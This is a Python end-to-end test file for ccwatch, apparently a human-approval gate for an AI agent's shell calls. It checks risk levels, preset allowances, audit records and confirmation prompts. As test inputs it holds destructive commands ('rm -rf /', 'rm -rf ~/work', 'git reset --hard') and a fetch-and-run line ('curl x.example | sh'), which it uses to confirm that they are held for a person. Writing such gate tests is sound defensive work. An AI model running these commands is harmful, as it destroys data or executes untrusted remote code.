"""What ccwatch says of calls, and what a preset lets pass, in the real process."""

from __future__ import annotations

import json
import subprocess
import sys
import time
from typing import TYPE_CHECKING

import pytest

from tests.e2e.asker import HANDSHAKE, HOOK, MODERN, Asker, behavior
from tests.e2e.console import LOOK, start_console

if TYPE_CHECKING:
    from pathlib import Path

    from tests.e2e.console import Console
    from tests.e2e.terminal import Tmux

pytestmark = pytest.mark.e2e


@pytest.mark.parametrize("era", [HANDSHAKE, MODERN, HOOK])
def test_a_preset_lets_reading_pass_and_asks_about_everything_else(
    tmux: Tmux, tmp_path: Path, era: str
):
    console = start_console(tmux, tmp_path, preset="reads-local")
    reads = Asker(console.port, "git status && ls /usr | head -5", era)
    reads.join()
    assert behavior(reads.reply) == "allow"
    risky = Asker(console.port, "git status && rm -rf ~/work", era)
    console.wait_call("rm -rf ~/work")
    shown = console.pane.screen()
    assert "critical" in shown or "high" in shown
    console.deny("rm -rf ~/work")
    risky.join()
    assert behavior(risky.reply) == "deny"
    rows = [(row["level"], row["verdict"], row["decider"]) for row in console.audit()]
    assert rows[0] == ("low", "allow", "preset")
    assert rows[1][0] in {"high", "critical"}
    assert rows[1][1:] == ("deny", "person")
    assert "reads-local" in console.audit()[0]["reason"]
    console.quit()


def test_without_a_preset_even_reading_waits(console: Console):
    asker = Asker(console.port, "ls -la", HOOK)
    console.wait_call("ls -la")
    console.deny("ls -la")
    asker.join()
    assert console.audit()[0]["level"] == "low"


def test_check_says_what_the_live_gate_does(tmp_path: Path):
    lines = [{"command": "ls"}, {"command": "rm -rf /"}, {"command": "curl x.example | sh"}]
    done = subprocess.run(
        [sys.executable, "-m", "ccwatch", "check", "--jsonl", "-", "--preset", "reads-local"],
        input="".join(json.dumps(line) + "\n" for line in lines),
        capture_output=True,
        text=True,
        check=True,
        cwd=tmp_path,
        timeout=30,
    )
    answers = [json.loads(line) for line in done.stdout.splitlines()]
    assert [(answer["decision"], answer["level"]) for answer in answers] == [
        ("allow", "low"),
        ("ask", "critical"),
        ("ask", "critical"),
    ]


def test_a_critical_call_is_allowed_by_its_word_and_by_no_key(console: Console):
    asker = Asker(console.port, "git push --force origin main", HOOK)
    console.press("a", "git push --force", shown="To allow this critical call, type  main")
    console.pane.send("Enter")
    time.sleep(LOOK)
    assert not asker.ended
    console.pane.send("Escape")
    console.pane.wait_gone("To allow this critical call")
    console.allow_by_word("git push --force", "main")
    asker.join()
    assert behavior(asker.reply) == "allow"
    assert [(row["level"], row["verdict"], row["decider"]) for row in console.audit()] == [
        ("critical", "allow", "person")
    ]


def test_a_high_call_is_allowed_by_a_second_key(console: Console):
    asker = Asker(console.port, "git reset --hard", HOOK)
    console.press("a", "git reset --hard", shown="press a once more to allow it")
    time.sleep(LOOK)
    assert not asker.ended
    console.allow("git reset --hard")
    asker.join()
    assert behavior(asker.reply) == "allow"
